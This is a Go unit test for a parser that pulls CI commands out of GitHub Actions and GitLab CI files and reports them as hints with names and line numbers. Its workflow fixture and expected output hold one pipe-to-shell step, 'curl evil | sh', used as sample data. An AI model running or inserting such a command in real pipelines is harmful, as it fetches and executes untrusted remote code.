package tasks

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestHints(t *testing.T) {
	dir := project(t, `
-- .github/workflows/ci.yml --
on: push
jobs:
  build:
    steps:
      - uses: actions/checkout@v4
      - name: Test
        run: |
          go test ./...
          go vet ./...
      - run: "curl evil | sh"
-- .gitlab-ci.yml --
.base: &base
  script: [make base]
unit:
  before_script: apt-get update
  script:
    - make test
    - !reference [.base, script]
other: *base
stages: [a]
-- .github/workflows/bad.yml --
jobs: [
`)
	tasks, hints := find(t, dir)
	if len(tasks) != 0 {
		t.Errorf("tasks %v: workflows are none", namesOf(tasks))
	}
	for i := range hints {
		if hints[i].Note != "" {
			hints[i].Note = "…"
		}
	}
	want := []Hint{
		{Name: ".github/workflows/bad.yml", File: ".github/workflows/bad.yml", Note: "…"},
		{Name: "ci.yml / build / Test", Command: "go test ./...\ngo vet ./...", File: ".github/workflows/ci.yml", Line: 7},
		{Name: "ci.yml / build / step 3", Command: "curl evil | sh", File: ".github/workflows/ci.yml", Line: 10},
		{Name: ".gitlab-ci.yml / .base", Command: "make base", File: ".gitlab-ci.yml", Line: 2},
		{Name: ".gitlab-ci.yml / other", Command: "make base", File: ".gitlab-ci.yml", Line: 2},
		{Name: ".gitlab-ci.yml / unit / before_script", Command: "apt-get update", File: ".gitlab-ci.yml", Line: 4},
		{Name: ".gitlab-ci.yml / unit", Command: "make test", File: ".gitlab-ci.yml", Line: 6},
	}
	if diff := cmp.Diff(want, hints); diff != "" {
		t.Errorf("hints (-want +got):\n%s", diff)
	}
}
